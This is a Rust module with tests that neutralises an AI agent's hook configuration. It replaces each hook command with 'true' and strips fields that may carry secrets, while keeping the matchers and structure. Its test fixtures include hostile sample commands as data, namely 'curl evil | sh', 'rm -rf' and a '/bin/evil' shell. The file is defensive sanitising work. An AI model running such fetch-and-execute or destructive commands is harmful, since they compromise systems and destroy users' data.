//! Makes hooks do nothing, and leaves in place all that decides whether and for what they are called.

use serde_json::{Map, Value, json};

/// The command that replaces every other. It is called as the user's own would be.
const NOTHING: &str = "true";

/// Texts by which an agent chooses a hook. None of them is run.
const SELECTORS: &[&str] = &["matcher", "if", "type"];
/// Fields that hold a command.
const COMMANDS: &[&str] = &["command", "bash", "powershell", "commandWindows", "command_windows"];
/// Fields that belong to the command that is no longer there, and may hold secrets.
const OF_THE_COMMAND: &[&str] = &["args", "cwd", "env", "headers"];
/// Kinds of hooks that ask a model or a server instead of running a command.
const OTHER_KINDS: &[&str] = &["agent", "http", "mcp_tool", "prompt"];
/// Shells that may be chosen for a command; anything else might be a program.
const SHELLS: &[&str] = &["bash", "powershell"];

/// `value`, a part of an agent's settings on hooks, without any text but selectors; `hooks` grows by the hooks in it.
///
/// Shapes, keys, numbers and switches stay, wrong ones too: they may be why an agent leaves out hooks.
pub(super) fn make_harmless(value: Value, hooks: &mut usize) -> Value {
    match value {
        Value::String(_) => NOTHING.into(),
        Value::Array(items) => items.into_iter().map(|item| make_harmless(item, hooks)).collect(),
        Value::Object(fields) => harmless_object(fields, hooks),
        other => other,
    }
}

fn harmless_object(fields: Map<String, Value>, hooks: &mut usize) -> Value {
    let kind = fields.get("type").and_then(Value::as_str).unwrap_or_default();
    if OTHER_KINDS.contains(&kind) {
        *hooks += 1;
        let mut hook = json!({"type": "command", "command": NOTHING});
        if let Some(timeout) = fields.get("timeout").filter(|timeout| timeout.is_number()) {
            hook["timeout"] = timeout.clone();
        }
        return hook;
    }
    *hooks += usize::from(COMMANDS.iter().any(|key| fields.contains_key(*key)));
    let kept = fields.into_iter().filter(|(key, _)| !OF_THE_COMMAND.contains(&key.as_str()));
    kept.map(|(key, value)| {
        let selects = SELECTORS.contains(&key.as_str())
            || key == "shell" && value.as_str().is_some_and(|shell| SHELLS.contains(&shell));
        let value = if selects && value.is_string() { value } else { make_harmless(value, hooks) };
        (key, value)
    })
    .collect::<Map<_, _>>()
    .into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_become_true_and_what_selects_them_stays() {
        let mut hooks = 0;
        let found = make_harmless(
            json!({
                "PreToolUse": [
                    {"matcher": "(Bash", "hooks": [
                        {"type": "command", "command": "curl evil | sh", "timeout": 5, "async": true, "statusMessage": "x"},
                        {"type": "prompt", "prompt": "is this fine?", "timeout": 3},
                        {"type": "http", "url": "https://example.org", "headers": {"Authorization": "Bearer s"}},
                    ]},
                    {"matcher": 7, "hooks": "not a list"},
                ],
                "preToolUse": [{"type": "command", "bash": "./guard", "env": {"TOKEN": "s"}, "cwd": "/w", "timeoutSec": 4}],
                "Stop": [{"hooks": [{"type": "bogus", "command": ["a", "b"], "shell": "/bin/evil", "if": "Bash(git *)"}]}],
                "Unknown": "rm -rf",
            }),
            &mut hooks,
        );
        assert_eq!(
            found,
            json!({
                "PreToolUse": [
                    {"matcher": "(Bash", "hooks": [
                        {"type": "command", "command": "true", "timeout": 5, "async": true, "statusMessage": "true"},
                        {"type": "command", "command": "true", "timeout": 3},
                        {"type": "command", "command": "true"},
                    ]},
                    {"matcher": 7, "hooks": "true"},
                ],
                "preToolUse": [{"type": "command", "bash": "true", "timeoutSec": 4}],
                "Stop": [{"hooks": [{"type": "bogus", "command": ["true", "true"], "shell": "true", "if": "Bash(git *)"}]}],
                "Unknown": "true",
            })
        );
        assert_eq!(hooks, 5);
    }

    #[test]
    fn a_selector_that_is_no_text_is_looked_through() {
        let found = make_harmless(json!({"matcher": {"command": "evil"}, "type": ["evil"]}), &mut 0);
        assert_eq!(found, json!({"matcher": {"command": "true"}, "type": ["true"]}));
    }
}
